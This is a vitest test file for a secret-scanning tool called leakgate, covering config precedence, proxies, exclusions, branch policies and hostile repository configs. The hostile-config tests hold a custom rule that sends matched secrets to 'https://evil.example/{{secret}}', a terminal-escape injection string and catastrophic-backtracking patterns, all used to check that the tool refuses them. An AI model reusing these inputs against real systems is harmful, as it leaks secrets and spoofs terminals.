import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { seededRandom } from '../../src/engine/checks/random.ts';
import { checks } from '../../src/engine/checks/registry.ts';
import { makeFolder, makeRepo, type Repo, tokenLine } from '../helpers/repo.ts';

/** Writes the user's own config. */
function userConfig(repo: Repo, text: string): string {
  const folder = path.join(repo.home, 'xdg', 'leakgate');
  mkdirSync(folder, { recursive: true });
  writeFileSync(path.join(folder, 'config.yaml'), text);
  const home = path.join(repo.home, 'xdg');
  Object.assign(repo.env, { XDG_CONFIG_HOME: home, APPDATA: home });
  return path.join(folder, 'config.yaml');
}

describe('leakgate config', () => {
  test('says what is in force, and who said it', () => {
    const repo = makeRepo();
    const own = userConfig(
      repo,
      'proxy: http://ann:hunter2@proxy.example:3128\nskip:\n  - a*\nmax-file-size: 1M\n',
    );
    repo.write('.leakgate.yaml', 'exclude:\n  - vendor/**\nmax-file-size: 2M\n');
    const env = { LEAKGATE_MAX_DECODE_DEPTH: '2' };
    const { status, stdout } = repo.leakgate(['config', '--json', '--only', 'x'], { env });
    expect(status).toBe(0);
    expect(stdout).not.toContain('hunter2');
    const { settings } = JSON.parse(stdout) as {
      settings: { key: string; value: unknown; from: string; at: string | null }[];
    };
    const said = (key: string) =>
      settings.filter((one) => one.key === key).map(({ key: _, ...rest }) => rest);
    expect(said('only')).toEqual([{ value: ['x'], from: 'flag', at: '--only' }]);
    expect(said('max-decode-depth')).toEqual([
      { value: 2, from: 'environment', at: 'LEAKGATE_MAX_DECODE_DEPTH' },
    ]);
    expect(said('exclude')).toEqual([{ value: 'vendor/**', from: 'repository', at: '.leakgate.yaml:2' }]);
    expect(said('max-file-size')).toEqual([{ value: '2M', from: 'repository', at: '.leakgate.yaml:3' }]);
    expect(said('skip')).toEqual([{ value: 'a*', from: 'user', at: `${own}:3` }]);
    expect(said('on-finding')).toEqual([{ value: 'block', from: 'default', at: null }]);
    const text = repo.leakgate(['config']).stdout;
    expect(text).toMatch(/^exclude +vendor\/\*\* +\.leakgate\.yaml:2$/m);
    expect(text).not.toContain('hunter2');
  });

  test('works outside of a repository, and refuses what is wrong', () => {
    const folder = makeFolder();
    expect(folder.leakgate(['config']).status).toBe(0);
    expect(folder.leakgate(['config', 'more'])).toMatchObject({ status: 2 });
    expect(folder.leakgate(['config', '-f', 'sarif'])).toMatchObject({ status: 2 });
    folder.write('.leakgate.yaml', 'exclude: 1\n');
    expect(folder.leakgate(['config'])).toMatchObject({ status: 2 });
  });
});

test('the proxy of the user config is asked, that of the environment before it', () => {
  const repo = makeRepo();
  userConfig(repo, 'proxy: http://127.0.0.1:1\n');
  repo.add('a.env', tokenLine());
  const reasonWith = (env: NodeJS.ProcessEnv) => {
    const run = repo.leakgate(['staged', '--no-cache', '-f', 'json'], {
      env: { LEAKGATE_OFFLINE: '', ...env },
    });
    return JSON.parse(run.stdout).findings[0].verification.reason;
  };
  expect(reasonWith({})).toContain('refused the connection');
  // The variable is one on Windows, however it is spelt.
  const reason = reasonWith({ HTTPS_PROXY: 'socks5://127.0.0.1:1' });
  expect(reason).toMatch(/HTTPS_PROXY names no http or https proxy/i);
});

test('leakgate rules list names what is in force here', () => {
  const repo = makeRepo();
  repo.write(
    '.leakgate.yaml',
    'only: [acme, github-pat]\nseverities: { github: low }\ncustom-rules:\n' +
      '  - provider: acme\n    name: Acme\n    remediation: { steps: [Delete it.] }\n    rules:\n' +
      "      - { id: acme-a, title: Acme, severity: high, pattern: 'acme_(?<secret>.{8})', examples: { exempt: none } }\n",
  );
  const ids = (args: string[]) =>
    repo
      .leakgate(['rules', 'list', ...args])
      .stdout.trim()
      .split('\n')
      .map((line) => line.split(/ +/).slice(0, 2));
  expect(ids([])).toEqual([
    ['github-pat', 'low'],
    ['acme-a', 'high'],
  ]);
  expect(ids(['--only', 'acme'])).toEqual([['acme-a', 'high']]);
  expect(ids(['--no-repo-config', '--only', 'github-pat'])).toEqual([['github-pat', 'critical']]);
  expect(JSON.parse(repo.leakgate(['rules', 'show', 'acme-a']).stdout)).toMatchObject({ provider: 'acme' });
});

describe('what is excluded', () => {
  const receipt = (repo: Repo, ...args: string[]) => {
    const { status, stdout } = repo.leakgate([...args, '-f', 'json']);
    const { expected, scanned, skipped } = JSON.parse(stdout).receipt;
    return { status, expected, scanned, skipped: skipped.map(({ path }: { path: string }) => path) };
  };

  test.each([['staged'], ['dir'], ['dir', 'made/', 'b.txt'], ['audit'], ['diff', 'HEAD~1..HEAD']])(
    'is named once: %j',
    (...args) => {
      const repo = makeRepo();
      repo.write('.leakgate.yaml', 'exclude: [made/]\n');
      repo.git('commit', '-qm', 'empty', '--allow-empty');
      repo.add('made/a.env', tokenLine());
      repo.add('made/large.txt', `${'line of a large text\n'.repeat(8e5)}${tokenLine()}`);
      repo.add('b.txt', 'b\n');
      if (args[0] !== 'staged') repo.git('commit', '-qm', 'x');
      const { status, expected, scanned, skipped } = receipt(repo, ...args);
      expect([status, ...skipped]).toEqual([0, 'made/a.env', 'made/large.txt']);
      expect(scanned + skipped.length).toBe(expected);
    },
  );
});

describe('policy', () => {
  const warns =
    'overrides:\n  - paths: [test/]\n    on-finding: warn\n  - branches: [wip/*]\n    on-finding: warn\n';

  test('by path: the finding is there, and does not block', () => {
    const repo = makeRepo();
    repo.write('.leakgate.yaml', warns);
    repo.add('test/a.env', tokenLine());
    const run = repo.leakgate(['staged', '-f', 'json']);
    expect(run.status).toBe(0);
    expect(JSON.parse(run.stdout).findings).toMatchObject([{ file: 'test/a.env', blocks: false }]);
    repo.add('b.env', tokenLine());
    expect(repo.leakgate(['staged']).status).toBe(1);
  });

  test.each<[string, string[], NodeJS.ProcessEnv, number]>([
    ['the branch that is checked out', ['checkout', '-qb', 'wip/a'], {}, 0],
    ['another one', ['checkout', '-qb', 'other'], {}, 1],
    ['what CI builds', ['checkout', '-qb', 'other'], { CI_COMMIT_BRANCH: 'wip/a' }, 0],
    [
      'what a pull request goes to, whatever its own branch is called',
      ['checkout', '-qb', 'wip/a'],
      { GITHUB_BASE_REF: 'main', GITHUB_REF: 'refs/heads/wip/a' },
      1,
    ],
  ])('by branch: %s', (_, checkout, env, status) => {
    const repo = makeRepo();
    repo.git(...checkout);
    repo.write('.leakgate.yaml', warns);
    repo.add('a.env', tokenLine());
    expect(repo.leakgate(['staged'], { env }).status).toBe(status);
  });

  test('by branch: what is pushed to counts, not what is checked out', () => {
    const repo = makeRepo();
    repo.git('init', '-q', '--bare', '../remote.git');
    repo.git('remote', 'add', 'origin', '../remote.git');
    repo.write('.leakgate.yaml', warns);
    repo.add('a.env', tokenLine());
    repo.git('commit', '-qm', 'a');
    repo.leakgate(['hook', 'install', '--hooks', 'pre-push']);
    const pushed = (to: string) => repo.run('git', ['push', '-q', 'origin', `HEAD:refs/heads/${to}`]).status;
    expect(pushed('main')).not.toBe(0);
    expect(pushed('wip/a')).toBe(0);
  });

  test('severity, confidence and stop words', () => {
    const repo = makeRepo();
    repo.add('a.env', tokenLine());
    repo.write('.leakgate.yaml', 'severities: { github: low }\nblock-severity: medium\n');
    expect(JSON.parse(repo.leakgate(['staged', '-f', 'json']).stdout).findings).toMatchObject([
      { severity: 'low', blocks: false },
    ]);
    repo.write('.leakgate.yaml', 'stop-words: [GHP_]\n');
    const { findings, suppressed } = JSON.parse(repo.leakgate(['staged', '-f', 'json']).stdout);
    expect(findings).toEqual([]);
    expect(suppressed).toMatchObject([{ suppression: { by: 'config' } }]);
  });
});

describe('a hostile repository', () => {
  test.each([
    ['excludes everything', 'exclude: ["**"]\n', 'does not scan **'],
    ['turns every rule off', 'skip: ["*"]\n', 'turns off *'],
    ['takes a rule that is not there', 'only: [no-such-rule]\n', 'takes only the rules no-such-rule'],
    ['allows everything', 'allow: [{ secret: ["."] }]\n', 'allows by 1 entry'],
    ['only warns', 'on-finding: warn\n', 'only warns'],
    ['blocks on nothing', 'block-on: []\n', 'blocks only on nothing'],
  ])('that %s says so, and --no-repo-config ignores it', (_, config, phrase) => {
    const repo = makeRepo();
    repo.write('.leakgate.yaml', config);
    repo.add('a.env', tokenLine());
    const run = repo.leakgate(['staged']);
    expect(run).toMatchObject({ status: 0, all: expect.stringContaining(phrase) });
    expect(repo.leakgate(['hook', 'run', 'pre-commit']).all).toContain(phrase);
    expect(repo.leakgate(['staged', '--no-repo-config']).status).toBe(1);
  });

  test('names no host, and its rules ask nobody', () => {
    const repo = makeRepo();
    repo.write('.leakgate.yaml', 'endpoints: { github: "https://evil.example" }\n');
    expect(repo.leakgate(['staged'])).toMatchObject({
      status: 2,
      all: expect.stringContaining('your own config'),
    });
    const rule = [
      'custom-rules:',
      '  - provider: evil',
      '    name: Evil',
      '    remediation: { steps: [Nothing to do.] }',
      '    rules:',
      '      - id: evil-token',
      '        title: Evil token',
      '        severity: low',
      "        pattern: 'GITHUB_TOKEN=(?<secret>.{20})'",
      '        examples: { exempt: none here }',
      '        verify:',
      '          confidence: V',
      '          steps: [{ url: "https://evil.example/{{secret}}", live: [{ status: [200] }] }]',
      '',
    ].join('\n');
    repo.write('.leakgate.yaml', rule);
    repo.add('a.env', tokenLine());
    const run = repo.leakgate(['staged', '-f', 'json', '--only', 'evil'], { env: { LEAKGATE_OFFLINE: '' } });
    const verifications = JSON.parse(run.stdout).findings.map(
      (finding: { verification: object }) => finding.verification,
    );
    expect(verifications).toMatchObject([{ status: 'unchecked' }]);
  });

  test.skipIf(process.platform === 'win32').each(['/dev/zero', '/dev/null', 'elsewhere.yaml'])(
    'can not have %s read as its config',
    (target) => {
      const repo = makeRepo();
      repo.write('elsewhere.yaml', 'exclude: ["**"]\n');
      symlinkSync(target, path.join(repo.root, '.leakgate.yaml'));
      expect(repo.leakgate(['staged'])).toMatchObject({
        status: 2,
        all: expect.stringContaining('.leakgate.yaml: not a plain file'),
      });
      expect(repo.leakgate(['staged', '--config', 'elsewhere.yaml']).status).toBe(0);
    },
  );

  test('can not write to the terminal by what is wrong with its config', () => {
    const repo = makeRepo();
    repo.write('.leakgate.yaml', '"\\e[31m\\u202ered\\n::error::x": 1\n');
    const { status, stderr } = repo.leakgate(['staged']);
    expect(status).toBe(2);
    expect(stderr.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(stderr).not.toMatch(/^::/m);
  });

  test.each([
    ['a pattern', "allow: [{ line: ['^(a+)+$'] }]\n"],
    ['a glob', 'exclude: ["*a*a*a*a*a*a*a*a*b"]\noverrides: [{ paths: ["+(+(a))b"], on-finding: warn }]\n'],
    [
      'the paths of its rules',
      'custom-rules:\n  - provider: a\n    name: Ab\n    remediation: { steps: [None.] }\n    rules:\n' +
        "      - { id: a, title: Abc, severity: low, pattern: 'GITHUB(?<secret>.{40})', paths: ['*a*a*a*a*a*a*a*b'], examples: { exempt: none } }\n",
    ],
  ])('can not make it hang by %s', (_, config) => {
    const repo = makeRepo();
    repo.write('.leakgate.yaml', config);
    repo.add(`${'a'.repeat(200)}.env`, `${'a'.repeat(4000)} ${tokenLine()}`);
    expect(repo.leakgate(['staged']).status).toBe(1);
  });

  test.each([
    ['seen less', 'confidence: low, '],
    ['a part', 'part: true, '],
    ['as sure as others', ''],
  ])('has a rule that may hide what others find, and that is told: %s', (_, keys) => {
    const repo = makeRepo();
    const rule = `id: acme-a, title: Acme, severity: high, ${keys}pattern: '"(?<secret>[^"]+)"', examples: { exempt: none }`;
    repo.write(
      '.leakgate.yaml',
      'custom-rules:\n  - provider: acme\n    name: Acme\n    remediation: { steps: [Delete it.] }\n' +
        `    rules:\n      - { ${rule} }\n`,
    );
    const { stdout, all } = repo.leakgate(['dir', '--offline', '-f', 'json']);
    const told = keys === '' ? [] : ['.leakgate.yaml: the rule acme-a may hide what others find'];
    expect(JSON.parse(stdout).receipt.weakened ?? [], all).toEqual(told);
  });
});

test('a private key in a test is listed, blocks when that is asked for, and a token blocks anywhere', () => {
  const folder = makeFolder();
  folder.write('test/fixtures/server.key', `${checks.pem!.make(seededRandom('key'), 'RSA PRIVATE KEY')}\n`);
  const run = folder.leakgate(['dir', '--offline']);
  expect(run).toMatchObject({ status: 0 });
  expect(run.stdout).toMatch(/^ {2}test\/fixtures\/server\.key:1:1 {2}private-key$/m);
  const { unsure, findings } = JSON.parse(folder.leakgate(['dir', '--offline', '-f', 'json']).stdout) as {
    unsure: { secret: string }[];
    findings: unknown[];
  };
  expect([findings, unsure]).toEqual([
    [],
    [expect.objectContaining({ secret: expect.stringMatching(/^…/) })],
  ]);
  expect(folder.leakgate(['dir', '--offline', '--min-confidence', 'low'])).toMatchObject({ status: 1 });
  folder.write('deploy/server.key', `${checks.pem!.make(seededRandom('other'), 'RSA PRIVATE KEY')}\n`);
  expect(folder.leakgate(['dir', '--offline', 'deploy'])).toMatchObject({ status: 1 });
  folder.write('spec/fixtures/ci.yml', tokenLine());
  expect(folder.leakgate(['dir', '--offline', 'spec'])).toMatchObject({ status: 1 });
});
